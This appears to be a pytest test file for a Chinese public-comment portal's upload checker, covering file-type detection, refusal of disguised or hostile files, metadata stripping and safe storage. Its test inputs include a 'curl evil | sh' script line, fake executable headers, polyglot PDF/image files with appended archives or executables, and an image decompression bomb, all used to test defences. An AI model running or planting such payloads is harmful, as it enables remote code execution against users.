"""Attachment rules: type by content, hostile files refused by name, metadata stripped, storage."""

from __future__ import annotations

import hashlib
import io
import re
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from portal.extensions import db
from portal.intake.attachments import (
    AttachmentRefused,
    Limits,
    StoreTransaction,
    check_file,
    check_files,
    clean_filename,
    detect,
    open_attachment,
    path_for,
    send_attachment_response,
)
from portal.intake.models import Submission
from portal.intake.service import Incoming, IncomingFile, record_submission
from portal.site import content_disposition
from tests.fixtures.intake import (
    MZ_EXE,
    gen_docx,
    gen_image,
    gen_ofd,
    gen_pdf,
    gen_xlsx,
    gen_zip,
    gps_exif,
)

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def refusal(name: str, data: bytes, limits: Limits | None = None) -> str:
    with pytest.raises(AttachmentRefused) as caught:
        check_file(IncomingFile(name, data), limits=limits)
    message = caught.value.message
    assert f"“{name}”" in message, "every refusal names the file"
    return message


@pytest.mark.parametrize(
    ("name", "make", "content_type"),
    [
        ("整改报告.pdf", gen_pdf, "application/pdf"),
        ("photo.JPG", lambda: gen_image("JPEG"), "image/jpeg"),
        ("截图.png", lambda: gen_image("PNG"), "image/png"),
        ("pic.webp", lambda: gen_image("WEBP"), "image/webp"),
        (
            "意见.docx",
            gen_docx,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "台账.xlsx",
            gen_xlsx,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("发票.ofd", gen_ofd, "application/ofd"),
        ("说明.txt", lambda: "第十三项整改不到位。\n".encode(), "text/plain; charset=utf-8"),
    ],
)
def test_allowed_types_are_accepted_by_content(name: str, make: Any, content_type: str) -> None:
    checked = check_file(IncomingFile(name, make(), content_type="application/octet-stream"))
    assert checked.filename == name
    assert checked.content_type == content_type
    assert checked.sha256 == hashlib.sha256(checked.data).hexdigest()


def test_gb18030_text_is_accepted_and_stored_as_utf8() -> None:
    text = "群众反映：窗口办事效率低。𠀀"
    checked = check_file(IncomingFile("反映.txt", text.encode("gb18030")))
    assert checked.data.decode("utf-8") == text


def test_a_name_without_extension_gets_the_detected_one() -> None:
    assert check_file(IncomingFile("IMG_0001", gen_image("JPEG"))).filename == "IMG_0001.jpg"


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("scan.pdf", MZ_EXE, "不是真正的PDF文件（检测为Windows可执行文件）"),
        ("setup.exe", MZ_EXE, "Windows可执行文件"),
        ("tool", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "Linux可执行文件"),
        ("app.txt", b"\xcf\xfa\xed\xfe" + b"\x00" * 200, "macOS可执行文件"),
        ("run.txt", b"#!/bin/sh\ncurl evil | sh\n", "脚本"),
        ("资料.zip", gen_zip({"a.txt": b"x"}), "ZIP压缩包"),
        ("fake.docx", gen_zip({"a.txt": b"x"}), "不是真正的Word（DOCX）文件"),
        ("macro.docx", gen_zip({"[Content_Types].xml": b"<T/>", "word/document.xml": b"<d/>",
                                "word/vbaProject.bin": b"\xd0\xcf"}), "宏"),
        ("a.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100, "RAR"),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 100, "7z"),
        ("a.gz", b"\x1f\x8b\x08\x00" + b"\x00" * 100, "gzip"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "旧版Office"),
        ("photo.jpg", gen_image("PNG"), "不是真正的JPEG图片文件（检测为PNG图片）"),
        ("report.pdf", gen_image("JPEG"), "不是真正的PDF文件"),
        ("notes.exe", b"hello", "扩展名"),
        ("pdf+zip.pdf", gen_pdf() + gen_zip({"evil.exe": MZ_EXE}), "藏有其他文件"),
        ("pdf+exe.pdf", gen_pdf() + MZ_EXE, "藏有其他文件"),
        ("jpeg+zip.jpg", gen_image("JPEG") + gen_zip({"a.txt": b"x"}), "藏有其他文件"),
        ("png+zip.png", gen_image("PNG") + gen_zip({"a.txt": b"x"}), "藏有其他文件"),
        ("webp+exe.webp", gen_image("WEBP") + MZ_EXE, "藏有其他文件"),
        ("text+zip.txt", b"hello\n" + gen_zip({"a.txt": b"x"}), "不是真正的纯文本文件"),
        ("broken.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 50, "损坏"),
        ("binary.bin", bytes(range(256)) * 8, "不在允许的类型之内"),
        ("nul.txt", b"abc\x00def", "不是真正的纯文本文件"),
    ],
)  # fmt: skip
def test_hostile_files_are_refused_naming_the_file(name: str, data: bytes, words: str) -> None:
    assert words in refusal(name, data)


def test_empty_and_oversized_files_are_refused() -> None:
    assert "空文件" in refusal("empty.pdf", b"")
    limits = Limits(max_files=5, max_file_bytes=1024, max_total_bytes=4096)
    assert "上限" in refusal("big.txt", b"a" * 2000, limits)


def test_limits_on_count_and_total_are_enforced_together() -> None:
    limits = Limits(max_files=2, max_file_bytes=10_000, max_total_bytes=1500)
    files = [IncomingFile(f"{i}.txt", b"x" * 600) for i in range(3)]
    with pytest.raises(AttachmentRefused) as caught:
        check_files(files, limits)
    assert "最多上传2个附件" in caught.value.message
    assert "总大小" in caught.value.message


def test_blank_file_fields_are_ignored() -> None:
    assert check_files([IncomingFile("", b"")]) == []


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_gps_exif_is_stripped_and_orientation_applied(fmt: str) -> None:
    original = gen_image(fmt, size=(40, 20), exif=gps_exif(orientation=6))
    with Image.open(io.BytesIO(original)) as before:
        assert before.getexif().get_ifd(GPS_IFD), "the fixture really carries GPS"
    checked = check_file(IncomingFile(f"photo.{fmt.lower()}", original))
    with Image.open(io.BytesIO(checked.data)) as after:
        exif = after.getexif()
        assert not exif.get_ifd(GPS_IFD)
        assert ORIENTATION not in exif and 0x010F not in exif
        assert b"TestCam" not in checked.data
        # Orientation 6 (rotate 90° clockwise) is applied to the pixels: 40x20 becomes 20x40,
        # and the blue left half is now on top.
        assert after.size == (20, 40)
        top = after.convert("RGB").getpixel((10, 5))
        assert top[2] > 150 and top[0] < 100


def test_jpeg_comments_and_xmp_are_stripped() -> None:
    out = io.BytesIO()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>22,32N</exif:GPSLatitude>'
    xmp += b"</x:xmpmeta>"
    Image.new("RGB", (8, 8)).save(out, "JPEG", xmp=xmp, comment=b"owner: Li Ming 13812341234")
    data = check_file(IncomingFile("a.jpg", out.getvalue())).data
    assert b"GPSLatitude" not in data and b"13812341234" not in data


def test_decompression_bomb_is_refused() -> None:
    out = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(out, "PNG")
    assert "尺寸过大" in refusal("huge.png", out.getvalue())


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2048), st.sampled_from(["a.pdf", "a.jpg", "a.txt", "a", "a.docx"]))
def test_no_byte_string_crashes_the_checker(data: bytes, name: str) -> None:
    try:
        checked = check_file(IncomingFile(name, data))
    except AttachmentRefused as exc:
        assert f"“{clean_filename(name)}”" in exc.message
    else:
        assert checked.kind in {"text", "pdf"}  # random bytes are at most text (or a %PDF- head)


@given(st.text(max_size=300))
def test_filenames_are_cleaned_of_paths_and_controls(name: str) -> None:
    cleaned = clean_filename(name)
    assert cleaned and len(cleaned) <= 200
    assert not any(ch in cleaned for ch in "/\\\x00\n\r\u202e")


@given(st.binary(min_size=0, max_size=600))
def test_detect_never_raises(data: bytes) -> None:
    detect(data)


def test_store_rollback_removes_only_what_it_created(tmp_path: Path) -> None:
    existing = check_file(IncomingFile("old.pdf", gen_pdf("old")))
    first = StoreTransaction(tmp_path)
    old_path = first.store(existing)
    first.after_commit()

    second = StoreTransaction(tmp_path)
    assert second.store(existing) == old_path
    new_path = second.store(check_file(IncomingFile("new.pdf", gen_pdf("new"))))
    assert new_path.read_bytes().startswith(b"%PDF")
    second.rollback()
    assert old_path.exists() and not new_path.exists()
    assert not any((tmp_path / "tmp").iterdir()), "no temporary file is left behind"


def test_a_reused_file_removed_by_a_failed_twin_is_rewritten_after_commit(tmp_path: Path) -> None:
    checked = check_file(IncomingFile("same.pdf", gen_pdf("same")))
    failing, winning = StoreTransaction(tmp_path), StoreTransaction(tmp_path)
    path = failing.store(checked)
    winning.store(checked)  # sees the file: not its own
    failing.rollback()
    assert not path.exists()
    winning.after_commit()
    assert path.read_bytes() == checked.data


def test_stored_outside_static_under_the_instance_folder(app: Flask, notice: Any) -> None:
    jpeg = gen_image("JPEG", exif=gps_exif())
    receipt = record_submission(
        Incoming(
            channel="web",
            body="附上一张现场照片，请核实。",
            notice=notice,
            attachments=[IncomingFile("现场 照片.jpg", jpeg)],
        )
    )
    attachment = db.session.get(Submission, receipt.submission_id).attachments[0]
    path = open_attachment(attachment)
    assert path == Path(app.instance_path) / "uploads" / attachment.sha256[:2] / attachment.sha256
    assert hashlib.sha256(path.read_bytes()).hexdigest() == attachment.sha256
    assert attachment.size == path.stat().st_size
    assert path != path_for(hashlib.sha256(jpeg).hexdigest()), "stored bytes are the stripped ones"

    with app.test_request_context():
        response = send_attachment_response(attachment)
        response.direct_passthrough = False
        assert response.get_data() == path.read_bytes()
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''%E7%8E%B0%E5%9C%BA%20%E7%85%A7%E7%89%87.jpg" in disposition
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response.mimetype == "image/jpeg"


def _legacy_client_name(disposition: str) -> str:
    """The name curl -J or wget --content-disposition save under: filename=, not filename*."""
    match = re.search(r'filename="([^"]*)"', disposition)
    assert match, disposition
    return match.group(1)


@pytest.mark.parametrize(
    ("name", "saved_as"),
    [
        ("现场照片.jpg", "attachment.jpg"),
        ("整改报告（第二稿）.pdf", "attachment.pdf"),
        ("答复信-ABCDE-FGHJK.pdf", "ABCDE-FGHJK.pdf"),
        ("说明", "attachment"),
        ("scan 1.PDF", "scan 1.PDF"),
    ],
)
def test_a_chinese_name_is_saved_by_old_clients_under_a_visible_name(
    name: str, saved_as: str
) -> None:
    # A bare ".jpg" would be a hidden file on Unix, and a leading "-" reads as an option.
    disposition = content_disposition(name)
    assert _legacy_client_name(disposition) == saved_as
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''" in disposition, "modern browsers still get the real name"


def test_uploads_path_config_moves_the_store(app: Flask, notice: Any, tmp_path: Path) -> None:
    app.config["UPLOADS_PATH"] = str(tmp_path / "elsewhere")
    receipt = record_submission(
        Incoming(
            channel="web",
            body="这是一段足够长的意见内容。",
            notice=notice,
            attachments=[IncomingFile("a.txt", "附件内容".encode())],
        )
    )
    attachment = db.session.get(Submission, receipt.submission_id).attachments[0]
    assert open_attachment(attachment).is_relative_to(tmp_path / "elsewhere")
